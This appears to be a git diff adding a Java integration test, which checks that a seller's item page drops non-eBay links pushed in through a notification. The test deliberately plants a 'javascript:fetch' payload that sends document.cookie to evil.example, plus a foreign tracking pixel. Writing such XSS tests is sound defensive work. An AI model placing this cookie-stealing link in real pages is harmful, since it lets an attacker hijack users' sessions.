@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import jakarta.json.JsonArray;
 import jakarta.json.JsonObject;
+import java.net.http.HttpResponse;
 import java.sql.Connection;
 import java.sql.PreparedStatement;
 import java.time.Instant;
@@ -327,6 +328,31 @@ class IngestionIT {
 
     assertEquals(List.of("PROCESSED", "UNMATCHED"), Notifications.awaitSettled(itemId, 2));
     assertEquals("34.99", onlyItem().getJsonNumber("price").bigDecimalValue().toPlainString());
+  }
+
+  @Test
+  void linksThatAreNotEbaysNeverReachTheSellersPage() throws Exception {
+    String hostile =
+        Notifications.signedFor(seller, itemId, "item-listed.xml", t0, Map.of())
+            .replace(
+                "https://www.ebay.com/itm/" + itemId,
+                "javascript:fetch('https://evil.example/?'+document.cookie)")
+            .replace(
+                "https://i.ebayimg.com/images/g/pyrex-side/s-l1600.jpg",
+                "https://evil.example/pixel.gif");
+    Notifications.pushAccepted(hostile, "ItemListed");
+    Notifications.awaitSettled(itemId, 1);
+
+    long id = onlyItem().getJsonNumber("id").longValue();
+    HttpResponse<String> page =
+        new WebClient()
+            .openAfterLogIn("/seller/item.xhtml?id=" + id, seller.username(), Sellers.PASSWORD);
+
+    assertEquals(200, page.statusCode());
+    assertTrue(page.body().contains("Vintage Pyrex Butterprint"), "the item's page");
+    assertFalse(page.body().contains("javascript:fetch"), "no script link");
+    assertFalse(page.body().contains("evil.example"), "no foreign host");
+    assertTrue(page.body().contains("https://i.ebayimg.com/images/g/pyrex/s-l1600.jpg"));
   }
 
   @Test
